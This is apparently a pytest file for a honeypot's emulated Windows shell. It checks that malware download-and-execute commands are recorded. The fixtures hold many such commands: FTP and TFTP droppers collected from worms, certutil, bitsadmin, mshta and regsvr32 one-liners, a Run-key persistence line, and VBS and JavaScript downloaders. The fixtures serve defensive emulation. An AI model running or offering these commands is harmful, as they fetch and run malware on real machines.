"""What worms and loaders say to cmd.exe: Nepenthes' collection (its doc/README.VFS), and what came since.

What is echoed into files comes out byte for byte, and every download is a wish with the right name.
"""

from __future__ import annotations

import base64

import pytest

from world.windows.told import Told

PROGRAM = b"MZ" + bytes(range(256)) * 5

FTP = {
    "echo open 84.178.229.215 13468 > o&echo user 1 1 >> o &echo get sysmsvc.exe >> o &echo quit >> o &ftp -n -s:o "
    "&sysmsvc.exe": ("ftp://1:1@84.178.229.215:13468/sysmsvc.exe", "sysmsvc.exe"),
    "echo open dust2.page.us 58736 >hgz.dll &echo user tomz0r downl0ad >>hgz.dll &echo binary >>hgz.dll &echo get "
    ">>hgz.dll &echo t.exe >>hgz.dll &echo navupdts.exe >>hgz.dll &echo bye >>hgz.dll &ftp.exe -n -s:hgz.dll &del "
    "hgz.dll &navupdts.exe": ("ftp://tomz0r:downl0ad@dust2.page.us:58736/t.exe", "navupdts.exe"),
    "echo open wowvill.easydns.us 5192 > appmr.dll&echo user tr lo.max >> appmr.dll &echo binary >> appmr.dll &echo "
    "get run.exe >> appmr.dll &echo quit >> appmr.dll &ftp -n -s:appmr.dll &del /Q appmr.dll &run.exe":
        ("ftp://tr:lo.max@wowvill.easydns.us:5192/run.exe", "run.exe"),
    "echo off&echo open 12.22.206.206 5554>>cmd.ftp&echo anonymous>>cmd.ftp&echo user&echo bin>>cmd.ftp&echo get "
    "4610_up.exe>>cmd.ftp&echo bye>>cmd.ftp&echo on&ftp -s:cmd.ftp&4610_up.exe&echo off&del cmd.ftp&echo on":
        ("ftp://anonymous:bin@12.22.206.206:5554/4610_up.exe", "4610_up.exe"),
    "cmd.exe /c echo user nettraf@web.cplnn.com>ntsdd.txt && echo fkIeXmd>>ntsdd.txt && echo binary>>ntsdd.txt && "
    "echo get mmf32.exe>>ntsdd.txt && echo quit>>ntsdd.txt && ftp -s:ntsdd.txt -n -d web.cplnn.com && del ntsdd.txt "
    "&& mmf32.exe": ("ftp://nettraf%40web.cplnn.com:fkIeXmd@web.cplnn.com/mmf32.exe", "mmf32.exe"),
    "tftp -i 12.221.176.67 GET msblast.exe": ("tftp://12.221.176.67/msblast.exe", "msblast.exe"),
    "tftp -i 10.120.57.149 GET h3110.411 package.exe & package.exe": ("tftp://10.120.57.149/h3110.411", "package.exe"),
}  # fmt: skip


@pytest.mark.parametrize("line", FTP)
def test_what_nepenthes_collected(line: str) -> None:
    url, name = FTP[line]
    told = Told(outside={url: PROGRAM})
    told.run(line)
    assert told.wished == [url]
    assert told.wishes[0].name == name
    assert told.file(name) == PROGRAM
    assert told.status == 0


def test_a_batch_file_that_is_echoed_and_run() -> None:
    told = Told(outside={"ftp://a:a@198.51.100.7:17128/servicetask.exe": PROGRAM})
    for line in (
        "echo open 198.51.100.7 17128>.pif", "echo user a a>>.pif", "echo binary>>.pif",
        "echo GET servicetask.exe>>.pif",
        "echo bye>>.pif", "echo @echo off >c.bat", "echo ftp -n -v -s:.pif >>c.bat", "echo servicetask.exe >>c.bat",
        "echo del .pif >>c.bat", "echo del /F c.bat >>c.bat", "echo exit /y >>c.bat",
    ):  # fmt: skip
        assert told.run(line) == ""
    told.run("c.bat")
    assert told.wished == ["ftp://a:a@198.51.100.7:17128/servicetask.exe"]
    assert told.shell.exited
    script = next(kept for kept in told.kept if kept.origin == "script")
    assert script.path == "C:\\Windows\\System32\\c.bat"
    assert script.data.startswith(b"@echo off \r\nftp -n -v -s:.pif \r\n")


URL = "http://198.51.100.7/a/x.exe"


@pytest.mark.parametrize(("line", "name"), [
    (f"certutil.exe -urlcache -split -f {URL} c:\\windows\\temp\\s.exe", "c:\\windows\\temp\\s.exe"),
    (f"certutil -urlcache -f -split {URL}", "x.exe"),
    (f"c^e^r^t^u^t^i^l -\"url\"cache -f {URL} y.exe", "y.exe"),
    (f"cmd /c \"c:\\windows\\sysnative\\certutil.exe -f -urlcache {URL} y.exe\"", "y.exe"),
    (f"bitsadmin /transfer j /download /priority high {URL} %TEMP%\\y.exe", "C:\\Windows\\TEMP\\y.exe"),
    (f"curl -s -o y.exe {URL}", "y.exe"),
    (f"curl -O {URL}", "x.exe"),
    (f"start /min /b \"\" cmd /c bitsadmin /transfer j {URL} c:\\y.exe", "c:\\y.exe"),
    (f"set u={URL}&call certutil -urlcache -f %u% y.exe", "y.exe"),
    (f"wmic process call create \"cmd /c certutil -f -urlcache {URL} y.exe\"", "y.exe"),
    (f"schtasks /create /f /sc minute /mo 1 /tn t /tr \"certutil -f -urlcache {URL} c:\\y.exe\"", "c:\\y.exe"),
    (f"sc create s binpath= \"cmd /c certutil -f -urlcache {URL} c:\\y.exe\"", "c:\\y.exe"),
    (f"copy c:\\windows\\system32\\certutil.exe z.com & z.com -urlcache -f {URL} y.exe", "y.exe"),
    (f"for /f \"tokens=1,2 delims=#\" %a in (\"{URL}#y.exe\") do @certutil -urlcache -f %a %b", "y.exe"),
    (f"cmd /v:on /c \"set u={URL}&& certutil -urlcache -f !u! y.exe\"", "y.exe"),
    (f"echo certutil -urlcache -f {URL} y.exe | cmd", "y.exe"),
])  # fmt: skip
def test_one_liners_that_put_a_file_somewhere(line: str, name: str) -> None:
    told = Told(outside={URL: PROGRAM})
    told.run(line)
    assert told.wished == [URL]
    assert told.wishes[0].name == name
    assert told.file(name) == PROGRAM


@pytest.mark.parametrize("line", [
    f"mshta {URL}", f"regsvr32 /s /n /u /i:{URL} scrobj.dll", f"msiexec /q /i {URL}", f"start {URL}",
    f"mshta vbscript:Close(Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"certutil -urlcache -f {URL} y\"\"\"))",
    f"rundll32 url.dll,OpenURL {URL}",
    f"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /t REG_SZ /d \"mshta {URL}\" /f",
])  # fmt: skip
def test_one_liners_that_run_what_they_fetch(line: str) -> None:
    told = Told(outside={URL: b""})
    told.run(line)
    assert told.wished == [URL]


def test_a_share_of_the_attackers_is_a_wish() -> None:
    told = Told()
    told.run("\\\\198.51.100.7\\s\\x.exe -k & copy \\\\198.51.100.7@8080\\DavWWWRoot\\y.exe .")
    assert told.wished == ["smb://198.51.100.7/s/x.exe", "http://198.51.100.7:8080/y.exe"]


# --- files that are put together -----------------------------------------------------------------------


def _kept(told: Told) -> list[bytes]:
    return [kept.data for kept in told.finish()]


def test_base64_that_is_echoed_and_decoded() -> None:
    told = Told()
    text = base64.b64encode(PROGRAM).decode()
    told.run("echo -----BEGIN CERTIFICATE----- > a.txt")
    for start in range(0, len(text), 100):
        told.run(f"echo {text[start : start + 100]}>> a.txt")
    told.run("echo -----END CERTIFICATE----->> a.txt")
    assert "completed successfully" in told.run("certutil -decode a.txt a.exe & del a.txt & a.exe")
    assert told.file("a.exe") == PROGRAM
    assert PROGRAM in _kept(told)


def test_hexadecimal_that_is_echoed_and_decoded() -> None:
    told = Told()
    text = PROGRAM.hex()
    for start in range(0, len(text), 200):
        told.run(f"echo {text[start : start + 200]} >> a.hex")
    told.run("certutil -f -decodehex a.hex a.exe && a.exe")
    assert PROGRAM in _kept(told)


def test_a_script_for_debug() -> None:
    told = Told()
    told.run("echo n 1.dll >123.hex")
    for start in range(0, len(PROGRAM), 128):
        told.run(f"echo e {0x100 + start:04x} {PROGRAM[start : start + 128].hex(' ')} >>123.hex")
    for line in ("r cx", f"{len(PROGRAM):04x}", "w", "q"):
        told.run(f"echo {line}>>123.hex")
    told.run("debug<123.hex & copy 1.dll nc.exe & nc.exe")
    assert told.file("nc.exe") == PROGRAM
    assert PROGRAM in _kept(told)


def test_pieces_that_are_copied_together() -> None:
    told = Told()
    told.run("<nul set /p =MZ>a & <nul set /p =rest, long enough to be no note of a few words, and so an artefact>b")
    told.run("copy /b a+b c.exe /y & c.exe")
    assert told.file("c.exe") == b"MZrest, long enough to be no note of a few words, and so an artefact"
    assert told.kept[0].path == "C:\\Windows\\System32\\c.exe"


def test_a_library_that_is_copied_and_called_is_a_file_like_others() -> None:
    said = Told().run("cd %temp% & copy \\Windows\\System32\\zipfldr.dll x.exe & x.exe & echo went on")
    assert said.endswith("went on\r\n")


VBS = r"""
Set Post = CreateObject("Msxml2.XMLHTTP")
Set aGet = CreateObject("ADODB.Stream")
h = "htt" & "p://198.51.100.7" : p = Chr(47) & "a/x.exe"
Post.Open "GET", h & p, 0
Post.Send()
aGet.Mode = 3
aGet.Type = 1
aGet.Open()
aGet.Write(Post.responseBody)
aGet.SaveToFile "c:\windows\temp\v.exe", 2
WScript.CreateObject("WScript.Shell").Run "cmd /c c:\windows\temp\v.exe", 0 ' go
"""
JS = r"""
var u = 'http://198.51.100.7' + "/a/x.exe"; var h = new ActiveXObject("Microsoft.XMLHTTP");
h.open('GET', u, false); h.send();
var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(h.ResponseBody);
s.SaveToFile("c:\\windows\\temp\\v.exe", 2); s.Close();
new ActiveXObject("WScript.Shell").Run("c:\\windows\\temp\\v.exe");
"""


@pytest.mark.parametrize(("script", "ending"), [(VBS, "vbs"), (JS, "js")])
def test_a_script_that_is_echoed_and_run(script: str, ending: str) -> None:
    told = Told(outside={URL: PROGRAM})
    for line in script.strip().split("\n"):
        told.run(f"echo {line.replace('&', '^&')} >>d.{ending}")
    told.run(f"cscript //nologo d.{ending}")
    assert told.wished == [URL]
    assert told.file("c:\\windows\\temp\\v.exe") == PROGRAM
    assert told.kept[0].origin == "script"


def test_a_script_with_arguments() -> None:
    """The wget.vbs of every textbook writes byte by byte, in a loop that is not run."""
    told = Told(outside={URL: PROGRAM})
    for line in (
        "strUrl = WScript.Arguments.Item(0)", "StrFile = WScript.Arguments.Item(1)",
        'Set http = CreateObject("WinHttp.WinHttpRequest.5.1")', 'http.Open "GET", strURL, False', "http.Send",
        "varByteArray = http.ResponseBody", 'Set fs = CreateObject("Scripting.FileSystemObject")',
        "Set ts = fs.CreateTextFile(StrFile, True)", "For lngCounter = 0 to UBound(varByteArray)",
        "ts.Write Chr(255 And Ascb(Midb(varByteArray,lngCounter + 1, 1)))", "Next", "ts.Close",
    ):  # fmt: skip
        told.run(f"echo {line} >> wget.vbs")
    told.run(f"cscript wget.vbs {URL} evil.exe")
    assert told.wished == [URL]
    assert told.file("evil.exe") == PROGRAM


def test_a_scriptlet_of_the_internet_is_read() -> None:
    sct = b'<?XML version="1.0"?><scriptlet><registration progid="x"><script language="JScript"><![CDATA[ ' \
          b'new ActiveXObject("WScript.Shell").Run("certutil -urlcache -f http://198.51.100.7/a/x.exe y.exe");' \
          b"]]></script></registration></scriptlet>"  # fmt: skip
    told = Told(outside={"http://198.51.100.7/x.sct": sct, URL: PROGRAM})
    told.run("regsvr32 /s /u /n /i:http://198.51.100.7/x.sct scrobj.dll")
    assert told.wished == ["http://198.51.100.7/x.sct", URL]
    assert told.file("y.exe") == PROGRAM


def test_ftp_that_is_typed() -> None:
    told = Told(outside={"ftp://a:b@198.51.100.7/x.exe": PROGRAM})
    for line, prompt in (("ftp", b"ftp> "), ("open 198.51.100.7", b"User: "), ("a", b"Password: "), ("b", b"ftp> "),
                         ("get x.exe", b"ftp> "), ("bye", b"C:\\Windows\\System32>")):  # fmt: skip
        told.run(line)
        assert told.shell.prompt() == prompt
    assert told.file("x.exe") == PROGRAM


def test_a_job_and_a_page_have_their_script_inside() -> None:
    told = Told(outside={URL: PROGRAM})
    told.run(
        "echo ^<package^>^<job id='code1'^>^<script language='VBScript'^>set x=CreateObject(\"WScript.Shell\") > a.wsf"
    )
    told.run(f'echo x.Run "cmd /c certutil -urlcache -f {URL} y.exe"^</script^>^</job^>^</package^> >> a.wsf')
    told.run("cscript a.wsf")
    assert told.wished == [URL]
    page = (
        b"<html><body><script>var a='x';</script><script language=\"JScript\">new ActiveXObject('WScript.Shell')"
        b".Run('certutil -urlcache -f http://198.51.100.7/a/x.exe z.exe');</script></body></html>"
    )
    told = Told(outside={"http://198.51.100.7/a.hta": page, URL: PROGRAM})
    told.run("mshta http://198.51.100.7/a.hta")
    assert told.file("z.exe") == PROGRAM


def test_a_scriptlet_by_its_moniker() -> None:
    sct = (
        f'<scriptlet><script language=\'VBScript\'>CreateObject("WScript.Shell").Run "mshta {URL}"</script></scriptlet>'
    )
    told = Told(outside={"http://198.51.100.7/b.sct": sct.encode(), URL: b""})
    told.run('mshta javascript:a=GetObject("script:http://198.51.100.7/b.sct").Exec();close();')
    assert told.wished == ["http://198.51.100.7/b.sct", URL]


def test_names_stand_in_the_order_in_which_ntfs_keeps_them() -> None:
    told = Told()
    told.run("echo x> C:\\_last & echo x> C:\\aaa")
    names = told.run("dir /b C:\\").split("\r\n")[:-1]
    assert names == sorted(names, key=str.upper)
    assert names[0] == "aaa"
    assert names[-1] == "_last"
